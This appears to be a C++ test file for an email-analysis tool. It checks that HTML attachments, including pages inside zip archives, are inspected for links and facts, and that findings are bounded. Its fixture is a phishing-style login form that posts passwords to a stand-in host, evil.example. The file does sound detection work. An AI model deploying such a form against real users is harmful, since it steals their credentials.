#include "analyzer/documents/inspect_documents.h"

#include <algorithm>

#include <catch2/catch.hpp>

#include "tests/support/archive_writer.h"

using namespace secondlook;

namespace {

const std::string kPage =
    "<form action='https://evil.example/take?m=1'><input type=password></form>";

std::string mail_with(const std::string& name, const std::string& type,
                      const std::string& content) {
  return "From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; "
         "boundary=b\r\n\r\n"
         "--b\r\nContent-Type: text/plain\r\n\r\nHello\r\n"
         "--b\r\nContent-Type: " +
         type + "\r\nContent-Disposition: attachment; filename=" + name + "\r\n\r\n" + content +
         "\r\n--b--\r\n";
}

bool has_link(const ParsedMessage& message, std::string_view host) {
  return std::any_of(message.links.begin(), message.links.end(), [&](const FoundLink& found) {
    return found.link.host == host && found.kind == FoundLink::Kind::document;
  });
}

}  // namespace

TEST_CASE("what an attached page holds becomes facts, links and URIs of the message") {
  const std::string mail = mail_with("login.html", "application/octet-stream", kPage);
  ParsedMessage message = parse_message(mail);
  CHECK(look_into_attachments(message, false).empty());
  REQUIRE(message.document_facts.size() == 2);
  CHECK(message.document_facts[0].where == "login.html");
  CHECK(has_link(message, "evil.example"));
  CHECK(std::ranges::count(message.rule_uris, "https://evil.example/take?m=1") == 1);
  CHECK(std::ranges::is_sorted(message.rule_uris));
}

TEST_CASE("a page in an archive is looked into, with its path") {
  const std::string zip = test::make_archive("zip", {{"docs/login.html", kPage}, {"a.txt", "a"}});
  std::string mail = mail_with("docs.zip", "application/zip", test::in_base64(zip));
  const std::string type = "Content-Type: application/zip\r\n";
  mail.insert(mail.find(type) + type.size(), "Content-Transfer-Encoding: base64\r\n");
  ParsedMessage message = parse_message(mail);
  CHECK(look_into_attachments(message, false).empty());
  CHECK(message.members.size() == 2);
  REQUIRE(message.document_facts.size() == 2);
  CHECK(message.document_facts[1].where == "docs.zip/docs/login.html");
  CHECK(has_link(message, "evil.example"));
}

TEST_CASE("what cannot be looked into is said with the file's name") {
  const std::string mail = mail_with("big.html", "text/html", std::string((4 << 20) + 10, 'x'));
  ParsedMessage message = parse_message(mail);
  const auto unseen = look_into_attachments(message, false);
  REQUIRE(unseen.size() == 1);
  CHECK(unseen.front() == "big.html: only the first 4 MiB looked at");
}

TEST_CASE("findings are bounded, and say when they are cut") {
  DocumentFindings findings;
  for (int i = 0; i < 2000; ++i) {
    findings.add_url("https://a.example/" + std::to_string(i));
    findings.add_fact("script", std::to_string(i));
  }
  findings.add_url("https://a.example/1");
  findings.add_fact("long", std::string(300, 'x'));
  CHECK(findings.urls().size() == DocumentFindings::kMostUrls);
  CHECK(findings.facts().size() == DocumentFindings::kMostFacts);
  CHECK(findings.unseen().size() == 2);
  DocumentFindings latin;
  latin.add_fact("name", "caf\xE9");
  CHECK(latin.facts().front().detail == "café");
}
